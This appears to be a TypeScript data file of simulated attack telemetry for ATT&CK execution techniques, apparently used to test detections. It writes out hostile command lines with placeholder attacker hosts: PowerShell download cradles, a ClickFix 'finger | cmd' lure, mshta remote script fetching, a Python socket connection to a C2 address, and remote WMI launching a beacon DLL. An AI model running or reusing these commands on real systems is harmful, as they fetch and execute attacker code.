import { t, v } from "../dsl";

const WORD = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
const EXCEL = "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE";
const EDGE = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe";

/** Execution: interpreters, WMI, services and user execution as real intrusions chain them. */
export const execution = [
  t(
    "T1047",
    "WMI execution",
    "wmic process call create locally or against a remote host, and Invoke-CimMethod; the payload starts under WmiPrvSE.exe.",
    [
      // Ransomware staging: a beacon DLL already copied to the server is started through remote WMI.
      v(
        "wmic-remote",
        [
          {
            cmd: 'wmic /node:"{{srv}}" process call create "rundll32.exe C:\\ProgramData\\{{rand}}.dll,{{$entry}}"',
            net: [["@server", 135]],
          },
          {
            cmd: "rundll32.exe C:\\ProgramData\\{{rand}}.dll,{{$entry}}",
            host: "@server",
            parent: "@wmiprvse",
            user: "@admin",
            net: [["{{c2}}", 443]],
            keep: true,
          },
        ],
        { elevated: true, vars: { entry: "{{StartW|DllRegisterServer|Control_RunDLL}}" } },
      ),
      v("wmic-local", [
        'wmic process call create "{{tools}}\\{{name}}.exe"',
        { cmd: "{{tools}}\\{{name}}.exe", parent: "@wmiprvse" },
      ]),
      v(
        "invoke-cimmethod",
        [
          {
            ps: "Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine='powershell.exe -nop -w hidden -c whoami'}",
          },
          { cmd: "powershell.exe -nop -w hidden -c whoami", parent: "@wmiprvse", as: "p" },
          { cmd: '"C:\\Windows\\system32\\whoami.exe"', parent: "p" },
        ],
        { shell: "ps" },
      ),
    ],
  ),
  t(
    "T1059",
    "Command and scripting interpreter",
    "An interpreter started by a document or by the operator to run a staged script.",
    [
      // A shortcut lure (Emotet/IcedID era) starting a hidden, encoded PowerShell download cradle.
      v(
        "lnk-ps-cradle",
        [
          {
            cmd: "powershell.exe -nop -w hidden -c \"IEX (New-Object System.Net.WebClient).DownloadString('http://{{c2}}/{{rand}}')\"",
            parent: "@explorer",
            net: [["{{c2}}", 80]],
          },
        ],
        { shell: "none" },
      ),
      v(
        "ps-file",
        [{ cmd: "powershell.exe -ExecutionPolicy Bypass -File {{tmp}}\\{{rand}}.ps1", parent: "@explorer" }],
        { shell: "none" },
      ),
      v("wscript", [{ cmd: "wscript.exe {{downloads}}\\invoice_{{n}}.js", parent: "@explorer" }], {
        shell: "none",
      }),
    ],
  ),
  t(
    "T1059.003",
    "Windows command shell",
    "cmd.exe running batch scripts and chained commands from Office, services and implants.",
    [
      // ClickFix lures (2025) paste this into Win+R: finger.exe fetches the next stage over TCP/79 and cmd runs it.
      v(
        "clickfix-finger",
        [
          {
            cmd: 'cmd /c start "" /min cmd /c "finger {{rand}}@{{c2}} | cmd" && echo \'Verify you are human - press Enter\'',
            parent: "@explorer",
            as: "run",
          },
          {
            by: "@explorer",
            reg: [
              [
                "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU",
                "a",
                'cmd /c start "" /min cmd /c "finger {{rand}}@{{c2}} | cmd" && echo \'Verify you are human - press Enter\'\\1',
              ],
            ],
          },
          // start relaunches cmd minimised; cmd runs each side of the pipe in its own /S /D /c child.
          { cmd: 'cmd  /c "finger {{rand}}@{{c2}} | cmd"', parent: "run", as: "mini" },
          {
            cmd: 'C:\\Windows\\system32\\cmd.exe  /S /D /c" finger {{rand}}@{{c2}} "',
            parent: "mini",
            as: "left",
          },
          { cmd: "finger  {{rand}}@{{c2}}", parent: "left", net: [["{{c2}}", 79]] },
          { cmd: 'C:\\Windows\\system32\\cmd.exe  /S /D /c" cmd"', parent: "mini" },
        ],
        { shell: "none" },
      ),
      v(
        "bat-from-explorer",
        [
          {
            cmd: 'C:\\Windows\\system32\\cmd.exe /c ""{{downloads}}\\{{name}}.bat" "',
            parent: "@explorer",
            files: ["{{tmp}}\\{{rand}}.txt"],
          },
        ],
        { shell: "none" },
      ),
      v(
        "office-cmd",
        [
          { cmd: `"${WORD}" /n "{{downloads}}\\Invoice_{{n}}.doc"`, as: "word", parent: "@explorer" },
          { cmd: "cmd.exe /c echo %username% && ping -n 1 {{c2}}", parent: "word", as: "c" },
          { cmd: "ping  -n 1 {{c2}}", parent: "c", dns: ["{{c2}}"] },
        ],
        { shell: "none" },
      ),
      v("cmd-chain", [
        {
          cmd: "cmd.exe /c whoami & hostname & ipconfig /all > {{tmp}}\\{{rand}}.txt",
          files: ["{{tmp}}\\{{rand}}.txt"],
          as: "c",
        },
        { cmd: "whoami", parent: "c" },
        { cmd: "hostname", parent: "c" },
        { cmd: "ipconfig  /all", parent: "c" },
      ]),
    ],
  ),
  t("T1059.005", "Visual Basic", "VBScript run by wscript/cscript from a lure or a macro.", [
    v(
      "wscript-vbs",
      [
        {
          cmd: 'wscript.exe "{{downloads}}\\Invoice_{{n}}.vbs"',
          parent: "@explorer",
          net: [["{{c2}}", 443]],
          files: ["{{tmp}}\\{{rand}}.exe"],
        },
      ],
      { shell: "none" },
    ),
    v("cscript", [{ cmd: "cscript.exe //nologo {{tmp}}\\{{rand}}.vbs" }]),
    v(
      "macro-vbs",
      [
        {
          cmd: `"${EXCEL}" "{{downloads}}\\Report_{{n}}.xlsm"`,
          as: "xl",
          parent: "@explorer",
          loads: ["C:\\Program Files\\Common Files\\Microsoft Shared\\VBA\\VBA7.1\\VBE7.DLL"],
        },
        { cmd: "wscript.exe C:\\Users\\Public\\{{rand}}.vbs", parent: "xl" },
      ],
      { shell: "none" },
    ),
  ]),
  t(
    "T1059.006",
    "Python",
    "Python interpreters (installed or dropped embeddable) running attacker scripts.",
    [
      v("python-script", [
        { cmd: '"C:\\Program Files\\Python311\\python.exe" {{tmp}}\\{{rand}}.py', net: [["{{c2}}", 443]] },
      ]),
      v("python-c", [
        '"C:\\Program Files\\Python311\\python.exe" -c "import socket,subprocess,os;s=socket.socket();s.connect((\'{{c2ip}}\',{{port}}))"',
      ]),
      v("embeddable", [
        {
          cmd: "{{appdata}}\\python\\pythonw.exe {{appdata}}\\python\\{{rand}}.py",
          image: "{{appdata}}\\python\\pythonw.exe",
          net: [["{{c2}}", 443]],
        },
      ]),
    ],
  ),
  t("T1059.007", "JavaScript", "JScript lures run by wscript, and mshta javascript: one-liners.", [
    // GootLoader-style: the .js is opened from inside the downloaded ZIP, so Explorer extracts it to
    // %TEMP%\Temp1_<zip>\ first and wscript runs it from there.
    v(
      "wscript-js",
      [
        {
          by: "@explorer",
          reads: ["{{downloads}}\\{{$doc}}.zip"],
          files: ["{{tmp}}\\Temp1_{{$doc}}.zip\\{{$doc}}.js"],
        },
        {
          cmd: '"C:\\Windows\\System32\\WScript.exe" "{{tmp}}\\Temp1_{{$doc}}.zip\\{{$doc}}.js"',
          parent: "@explorer",
          net: [["{{c2}}", 443]],
        },
      ],
      { shell: "none", vars: { doc: "{{Invoice|Payment|Scan|agreement}}_{{n}}" } },
    ),
    v("cscript-jse", ["cscript.exe //E:jscript {{tmp}}\\{{rand}}.txt"]),
    v("mshta-javascript", [
      'mshta.exe javascript:a=GetObject("script:https://{{c2}}/{{rand}}.sct").Exec();close()',
    ]),
  ]),
  t(
    "T1059.010",
    "AutoHotKey and AutoIT",
    "AutoIt3 and AutoHotkey interpreters running dropped scripts (DarkGate, etc.).",
    [
      v("autoit", [
        {
          cmd: "{{tools}}\\Autoit3.exe {{tools}}\\script.a3x",
          files: ["{{tools}}\\script.a3x"],
          net: [["{{c2}}", 443]],
        },
      ]),
      v("autohotkey", ['"C:\\Program Files\\AutoHotkey\\AutoHotkey.exe" {{tmp}}\\{{rand}}.ahk']),
      v("autoit-au3", ["{{tools}}\\AutoIt3.exe {{tools}}\\{{rand}}.au3"]),
    ],
  ),
  t("T1059.011", "Lua", "A Lua interpreter shipped with the payload runs an obfuscated script.", [
    v("luajit", [
      {
        cmd: "{{appdata}}\\{{rand}}\\luajit.exe {{appdata}}\\{{rand}}\\{{rand}}.txt",
        net: [["{{c2}}", 443]],
      },
    ]),
  ]),
  t(
    "T1072",
    "Software deployment tools",
    "Deployment consoles (PDQ, SCCM, PsExec-style agents) pushing a payload to hosts.",
    [
      v(
        "pdq",
        [
          {
            cmd: "C:\\Windows\\AdminArsenal\\PDQDeployRunner\\service-1\\exec\\{{name}}.exe",
            host: "@server",
            parent: "@services",
            user: "@system",
          },
        ],
        { shell: "none" },
      ),
      v(
        "sccm",
        [
          {
            cmd: "C:\\Windows\\ccmcache\\{{rand}}\\{{name}}.exe /quiet",
            host: "@server",
            parent: "@services",
            user: "@system",
          },
        ],
        { shell: "none" },
      ),
      // The PDQ runner service stages the pushed payload outside the allowed paths; a Software Restriction
      // Policy (default level Disallowed, %WINDIR% and %ProgramFiles% unrestricted) refuses to start it.
      v(
        "pdq-srp-blocked",
        [
          {
            cmd: "C:\\Windows\\AdminArsenal\\PDQDeployRunner\\service-1\\PDQDeployRunner-1.exe",
            as: "runner",
            host: "@workstation",
            parent: "@services",
            user: "@system",
            files: ["C:\\ProgramData\\{{name}}\\{{name}}.exe"],
            then: [
              {
                id: "srp",
                kind: "srp.block",
                path: "C:\\ProgramData\\{{name}}\\{{name}}.exe",
                rule: "default",
              },
            ],
          },
        ],
        { shell: "none" },
      ),
    ],
  ),
  t(
    "T1106",
    "Native API",
    "A loader calling CreateProcess/VirtualAlloc directly; seen as an unsigned binary spawning a child.",
    [
      v("loader", [
        { cmd: "{{tools}}\\{{name}}.exe", as: "ld", loads: ["C:\\Windows\\System32\\ntdll.dll"] },
        { cmd: "C:\\Windows\\System32\\notepad.exe", parent: "ld" },
      ]),
    ],
  ),
  t("T1129", "Shared modules", "A payload loading attacker DLLs with LoadLibrary from user-writable paths.", [
    v("loadlibrary", [{ cmd: "{{tools}}\\{{name}}.exe", loads: ["{{tools}}\\{{rand}}.dll"] }]),
  ]),
  t(
    "T1202",
    "Indirect command execution",
    "Commands run through forfiles, pcalua and conhost instead of cmd directly.",
    [
      v("forfiles", [
        {
          cmd: 'forfiles /p C:\\Windows\\System32 /m notepad.exe /c "cmd /c {{tmp}}\\{{rand}}.exe"',
          as: "ff",
        },
        { cmd: "cmd /c {{tmp}}\\{{rand}}.exe", parent: "ff", as: "c" },
        { cmd: "{{tmp}}\\{{rand}}.exe", parent: "c" },
      ]),
      v("pcalua", ["pcalua.exe -a {{tmp}}\\{{rand}}.exe"]),
      v("conhost", [
        { cmd: "conhost.exe --headless cmd.exe /c {{tmp}}\\{{rand}}.bat", as: "con" },
        { cmd: "cmd.exe /c {{tmp}}\\{{rand}}.bat", parent: "con" },
      ]),
    ],
  ),
  t("T1203", "Client execution exploit", "An exploited Office or browser process spawning a shell.", [
    v(
      "office-exploit",
      [
        { cmd: `"${WORD}" /n "{{downloads}}\\{{rand}}.rtf"`, as: "w", parent: "@explorer" },
        {
          cmd: "cmd.exe /c powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://{{c2}}/a')\"",
          parent: "w",
          as: "c",
        },
        {
          cmd: "powershell  -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://{{c2}}/a')\"",
          parent: "c",
          net: [["{{c2}}", 80]],
        },
      ],
      { shell: "none" },
    ),
    v(
      "eqnedt",
      [
        {
          cmd: '"C:\\Program Files (x86)\\Common Files\\Microsoft Shared\\EQUATION\\EQNEDT32.EXE" -Embedding',
          as: "eq",
          parent: "@svchost:DcomLaunch",
        },
        { cmd: "cmd.exe /c {{appdata}}\\{{rand}}.exe", parent: "eq", as: "c" },
        { cmd: "{{appdata}}\\{{rand}}.exe", parent: "c" },
      ],
      { shell: "none" },
    ),
    // CurveBall (CVE-2020-0601) man-in-the-middle: a site with a spoofed ECC chain serves the exploit page;
    // on a patched host crypt32 in the browser refuses the chain and reports it through CveEventWrite.
    v(
      "curveball-tls",
      [
        {
          cmd: `"${EDGE}" --single-argument https://update.{{c2}}/`,
          as: "edge",
          parent: "@explorer",
          dns: ["update.{{c2}}"],
          net: [["update.{{c2}}", 443]],
          then: [
            {
              id: "cve",
              kind: "cve.audit",
              cve: "[CVE-2020-0601] cert validation",
              details:
                "CA: <USERTrust ECC Certification Authority> sha1: {{hex40}} para: 06052B81040022 otherPara: " +
                "30820157020101303C06072A8648CE3D0101023100FFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFEFFFFFFFF0000000000000000FFFFFFFF",
            },
          ],
        },
      ],
      { shell: "none" },
    ),
  ]),
];
